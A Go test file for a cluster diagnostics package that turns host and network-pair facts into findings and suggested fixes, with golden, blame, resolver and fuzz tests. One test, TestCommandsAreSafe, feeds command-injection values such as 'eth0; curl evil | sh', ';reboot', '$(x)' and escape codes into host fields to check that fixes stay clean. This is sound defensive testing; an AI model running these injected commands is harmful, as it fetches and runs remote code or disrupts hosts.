package doctor

import (
	"bytes"
	"flag"
	"fmt"
	"math"
	"os"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"calib/internal/dataset"
	"calib/internal/dataset/names"
	"calib/internal/hosts"
)

var update = flag.Bool("update", false, "rewrite the golden file in testdata")

// sound is a host with which nothing is wrong.
func sound(name, addr string, more ...string) Host {
	h := Host{Offset: 3 * time.Millisecond, Bound: 5 * time.Millisecond, Host: dataset.Host{
		Name: name, Addr: addr, Boot: "boot of " + name,
		Env: map[string]string{
			"kernel": "6.12.9", "cpu.model": "Some CPU", "cpu.cores": "16", "cpu.governor": "performance",
			"cpu.idle_deepest": "C1", "cpu.idle_wake_us": "2",
			"clocksource": "tsc", "virt": "none", "tcp.congestion": "cubic", "nic.name": "eth0", "nic.mtu": "9000",
			"nic.speed_mbps": "25000", "nic.driver": "mlx5_core",
			"nic.duplex": "full", "nic.coalesce.rx_usecs": "8", "nic.coalesce.adaptive_rx": "0", "nic.tso": "on",
			"nic.lro": "off", "nic.rx_checksum": "on", "nic.tx_checksum": "on",
		},
		Now: dataset.Now{Load: 0.1, Clocks: []string{"tsc", "hpet"}, Ports: [2]int{32768, 60999}, Files: 65536,
			Disk: 10_000_000_000, DiskPath: "/home/u/.cache/calib"},
	}}
	for i := 0; i+1 < len(more); i += 2 {
		h.Env[more[i]] = more[i+1]
	}
	return h
}

// works is a pair with which nothing is wrong.
func works(a, b int) Pair {
	w := Way{Device: "eth0", MTU: 9000, Trip: 20e-6, Sent: 8, Received: 8}
	return Pair{Hosts: [2]int{a, b}, Ways: [2]Way{w, w}}
}

// all are the pairs of n hosts; change changes some.
func all(n int, change func(a, b int, p *Pair)) []Pair {
	var out []Pair
	for a := range n {
		for b := a + 1; b < n; b++ {
			p := works(a, b)
			change(a, b, &p)
			out = append(out, p)
		}
	}
	return out
}

func codes(r Report) []string {
	var out []string
	for _, f := range r.Findings {
		out = append(out, f.Code)
	}
	return slices.Compact(out)
}

func TestNothingWrong(t *testing.T) {
	f := Facts{Pairs: all(3, func(int, int, *Pair) {})}
	for _, n := range []string{"a", "b", "c"} {
		f.Hosts = append(f.Hosts, sound(n, "10.0.0.1:7100"))
	}
	r := Examine(f)
	if len(r.Findings) > 0 || !r.Ready || r.Usable != 3 || len(r.Out) > 0 || r.Pairs.Work != 3 {
		t.Errorf("%+v", r)
	}
}

// Every kind of trouble, as a person reads it.
func TestReportGolden(t *testing.T) {
	const h = 11
	f := Facts{Hosts: []Host{
		sound("a", "10.0.0.1:7100"),
		sound("b", "10.0.0.2:7100", "nic.mtu", "1500", "nic.speed_mbps", "1000", "nic.duplex", "half", "tcp.congestion",
			"bbr", "nic.tso", "off"),
		sound("c", "10.0.0.3:7100", "cpu.governor", "powersave", "cpu.idle_deepest", "C6", "cpu.idle_wake_us", "133", "virt",
			"kvm"),
		sound("d", "10.0.0.4:7100", "clocksource", "hpet", "nic.coalesce.rx_usecs", "64", "nic.lro", "on", "nic.tx_checksum",
			"off"),
		sound("e", "10.0.0.5:7100", "container", "podman"),
		sound("refused", "10.0.0.6:7100"), sound("silent", "10.0.0.7:7100"), sound("noroute", "10.0.0.8:7100"),
		sound("late", "10.0.0.9:7100"), sound("twin", "[fd00::9]:7100", "nic.name", ""),
		{Host: dataset.Host{Name: "gone"}, Lost: "ssh gone: connection refused"},
	}}
	f.Hosts[2].Now.Load = 9.5
	f.Hosts[4].Now = dataset.Now{Files: 100, Ports: [2]int{60000, 60999}, Disk: 1_000_000, Unsynced: true,
		DiskPath: f.Hosts[4].Now.DiskPath}
	delete(f.Hosts[9].Env, "nic.name")
	f.Hosts[8].Offset, f.Hosts[9].Boot = 90*time.Second, f.Hosts[8].Boot
	f.Pairs = all(h-1, func(a, b int, p *Pair) {
		switch {
		case b == 5 || a == 5:
			p.Errors[0] = "agent a: task failed: slot 1: connect to host refused (10.0.0.6:7100): connection refused (is the " +
				"agent running there, and is the port open?)"
		case b == 6 || a == 6:
			p.Errors = [2]string{"agent a: context canceled", "agent silent: deadline passed: slot 3: check on hosts [0 6] " +
				"did not end within 2.5s"}
			p.Skipped = a == 4
		case b == 7 || a == 7:
			p.Errors[0] = "agent a: task failed: slot 1: connect to host noroute (10.0.0.8:7100): network is unreachable"
		case a == 2 && b == 3:
			p.Errors[0] = "connect to host d (d:7100): no route to host"
		case a == 0 && b == 1:
			p.Ways[0].Stalled, p.Ways[1].Stalled = true, true
		case a == 0 && b == 2:
			p.Ways[0].Device, p.Ways[1].MTU = "eth1", 1400
		case a == 0 && b == 3:
			p.Ways[0].Trip, p.Ways[1].Received = 300e-6, 6
		case a == 1 && b == 2:
			p.Errors[0] = "connect to host c (c:7100): ticket refused by the other side"
		case a == 1 && b == 3:
			p.Errors[0] = "connect to host d (d:7100): lookup d: no such host"
		case b == 4:
			p.Ways[0].Sent, p.Ways[1].Received = 0, 0
		}
	})
	r := Examine(f)
	var got bytes.Buffer
	if err := r.Text(&got); err != nil {
		t.Fatal(err)
	}
	const path = "testdata/report.txt"
	if *update {
		if err := os.WriteFile(path, got.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got.String()); diff != "" {
		t.Errorf("report (run with -update if it is meant):\n%s", diff)
	}
	if r.Ready || r.Usable != 7 {
		t.Errorf("ready %v, usable %d", r.Ready, r.Usable)
	}
	for _, n := range r.Findings {
		if n.What == "" || n.Mend == "" || !slices.Contains(severities, n.Severity) {
			t.Errorf("incomplete: %+v", n)
		}
	}
}

func TestOut(t *testing.T) {
	dead := func(hosts ...int) func(a, b int, p *Pair) {
		return func(a, b int, p *Pair) {
			if slices.Contains(hosts, a) || slices.Contains(hosts, b) {
				p.Errors[0] = "refused"
			}
		}
	}
	for _, c := range []struct {
		name  string
		pairs []Pair
		want  []int
	}{
		{"none", all(4, dead()), nil},
		{"one", all(4, dead(2)), []int{2}},
		{"two of four", all(4, dead(0, 3)), []int{0, 3}},
		{"one of two: nobody knows which", all(2, dead(1)), nil},
		{"two of three: nobody knows which", all(3, dead(0, 1)), nil},
		{"a link", all(4, func(a, b int, p *Pair) { p.Ways[0].Stalled = a == 0 && b == 1 }), nil},
		{"not tried", []Pair{works(0, 1)}, nil},
	} {
		if got := Out(4, c.pairs); !slices.Equal(got, c.want) {
			t.Errorf("%s: out are %v, want %v", c.name, got, c.want)
		}
	}
}

// A host that nobody reaches is named once, and a link between two sound hosts by both.
func TestBlame(t *testing.T) {
	f := Facts{}
	for _, n := range []string{"a", "b", "c", "d", "e"} {
		f.Hosts = append(f.Hosts, sound(n, "10.0.0."+n+":1"))
	}
	f.Pairs = all(5, func(a, b int, p *Pair) {
		if b == 4 || a == 1 && b == 2 {
			p.Errors = [2]string{"", "connect to host: deadline passed"}
		}
	})
	r := Examine(f)
	if diff := cmp.Diff([]string{"pair-silent", "silent"}, codes(r)); diff != "" || len(r.Findings) != 2 {
		t.Fatalf("%s%+v", diff, r.Findings)
	}
	if diff := cmp.Diff([][]string{{"b", "c"}, {"e"}}, [][]string{r.Findings[0].Hosts, r.Findings[1].Hosts}); diff != "" {
		t.Error(diff)
	}
	if !slices.Equal(r.Out, []string{"e"}) || r.Usable != 4 {
		t.Errorf("out %v, usable %d", r.Out, r.Usable)
	}
}

// A firewall is what mends it only where not even the small datagrams passed that open the ports.
func TestDatagramEvidence(t *testing.T) {
	for code, sent := range map[string]int{"pair-udp": 0, "pair-loss": 8} {
		f := Facts{Hosts: []Host{sound("a", "10.0.0.1:1"), sound("b", "10.0.0.2:1")}, Pairs: []Pair{works(0, 1)}}
		f.Pairs[0].Ways[0].Sent, f.Pairs[0].Ways[1].Received = sent, 0
		r := Examine(f)
		if len(r.Findings) != 1 || r.Findings[0].Code != code || strings.Contains(r.Findings[0].Mend, "nft") != (sent == 0) {
			t.Errorf("%d sent and none arrived: %+v", sent, r.Findings)
		}
	}
}

// Names that do not resolve are one finding, whatever the resolver says, and however many pairs it stops.
func TestUnresolvedNames(t *testing.T) {
	f := Facts{}
	for i := range 17 {
		f.Hosts = append(f.Hosts, sound(fmt.Sprintf("n%d", i+1), fmt.Sprintf("n%d:7100", i+1), "nic.name", ""))
	}
	lookups := []string{"no such host", "on 10.0.0.1:53: dial udp 10.0.0.1:53: connect: network is unreachable",
		"on 10.0.0.1:53: server misbehaving", "on 10.0.0.1:53: read udp 10.0.0.2:5->10.0.0.1:53: i/o timeout"}
	fail := func(a, b int, p *Pair) {
		if p.Skipped = a > 4 && b < 16; !p.Skipped {
			p.Errors = [2]string{"agent: slot 1: connect to host n (n:7100): lookup n " + lookups[(a+b)%len(lookups)],
				"context canceled"}
		}
	}
	for _, c := range []struct {
		pairs    []Pair
		of, what string
		usable   int
	}{
		{all(17, fail), "n[1-17]", "n[1-16] cannot resolve n[2-17]", 0},
		{all(17, func(a, b int, p *Pair) {
			if b > 14 {
				fail(a, b, p)
			}
		}), "n[16-17]", "n[1-16] cannot resolve n[16-17]", 15},
	} {
		f.Pairs = c.pairs
		r := Examine(f)
		if len(r.Findings) != 2 { // with the note that nobody knows their interfaces
			t.Fatalf("%+v", r.Findings)
		}
		n := r.Findings[0]
		if n.Severity != Blocks || n.Code != NoName || hosts.Fold(n.Hosts) != c.of || n.What != c.what {
			t.Errorf("want %q of %s: %+v", c.what, c.of, n)
		}
		if r.Ready || r.Usable != c.usable {
			t.Errorf("ready %v, usable %d", r.Ready, r.Usable)
		}
	}
}

func TestReadPair(t *testing.T) {
	sample := func(from, to int, aux map[string]float64, flags ...string) dataset.Sample {
		return dataset.Sample{Exp: names.Check, Phase: names.PhaseTrip, Ranks: []int{from, to}, NS: []int64{9000, 7000, 8000},
			Aux: aux, Flags: flags}
	}
	nics := [2]map[int]string{{2: "eth0"}, {3: "ib0"}}
	got := ReadPair([2]int{4, 7}, []dataset.Sample{
		sample(7, 4, map[string]float64{names.AuxDevice: 3, names.AuxPathMTU: 4096, names.AuxSent: 8, names.AuxReceived: 7}),
		sample(4, 7, map[string]float64{names.AuxDevice: 5, names.AuxPathMTU: 1500}, dataset.FlagTimeout),
		{Exp: "other", Ranks: []int{4, 7}}, {Exp: names.Check},
	}, nics)
	want := Pair{Hosts: [2]int{4, 7}, Ways: [2]Way{
		{MTU: 1500, Trip: 8e-6, Stalled: true}, {Device: "ib0", MTU: 4096, Trip: 8e-6, Sent: 8, Received: 7},
	}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

// What a host says of itself does not become a part of a command.
func TestCommandsAreSafe(t *testing.T) {
	const evil = "eth0; curl evil | sh"
	h := sound("h", "10.0.0.1:7;reboot", "nic.name", evil, "nic.mtu", "9001", "nic.lro", "on",
		"nic.duplex", "half", "container", "$(x)", "kernel", "6.1\x1b[2J", "tcp.congestion", evil, "core.default_qdisc", evil)
	h.Now.DiskPath, h.Now.Disk = "/a`b`", 1
	same := sound("g", "10.0.0.3:7", "tcp.congestion", evil, "core.default_qdisc", evil)
	f := Facts{Hosts: []Host{h, same, sound("b", "10.0.0.2:7")}}
	f.Pairs = all(3, func(a, b int, p *Pair) {
		if a == 1 {
			p.Errors[0] = "connection refused"
		}
		p.Ways[0].Device = evil
	})
	for _, n := range Examine(f).Findings {
		if strings.ContainsAny(n.Mend, "`$\x1b") || strings.Contains(n.Mend, "curl") || strings.Contains(n.Mend, "reboot") {
			t.Errorf("%s: %s", n.Code, n.Mend)
		}
	}
}

// Whatever agents say of themselves, a report is made of it.
func FuzzExamine(f *testing.F) {
	f.Add("nic.mtu", "9000", "eth0", 2, 0.5, "connection refused", "10.0.0.1:1", int64(5))
	f.Add("cpu.cores", "-1", "", -1, math.NaN(), "ticket refused", "[::1]", int64(-1<<63))
	f.Add("cpu.governor", "%s%[1]s", "/\x1b", 1<<40, 1e300, "", "", int64(0))
	f.Fuzz(func(t *testing.T, key, value, text string, n int, load float64, said, addr string, offset int64) {
		h := sound("h", addr, key, value)
		h.Offset = time.Duration(offset)
		h.Now = dataset.Now{Load: load, Clocks: []string{text}, Ports: [2]int{n, 1}, Files: uint64(n), Disk: uint64(n),
			DiskPath: text}
		facts := Facts{Hosts: []Host{sound("a", "10.0.0.1:1"), h, sound("b", addr)}}
		facts.Pairs = all(3, func(a, b int, p *Pair) {
			if a == 1 {
				p.Errors[0] = said
			}
		})
		r := Examine(facts)
		var b bytes.Buffer
		if err := r.Text(&b); err != nil || b.Len() == 0 {
			t.Errorf("%v", err)
		}
		if i := strings.IndexFunc(b.String(), func(c rune) bool { return c != '\n' && !unicode.IsPrint(c) }); i >= 0 {
			t.Errorf("the text would command a terminal: %q", b.String()[i:])
		}
		if len(r.Hosts) != 3 {
			t.Errorf("%d hosts", len(r.Hosts))
		}
	})
}
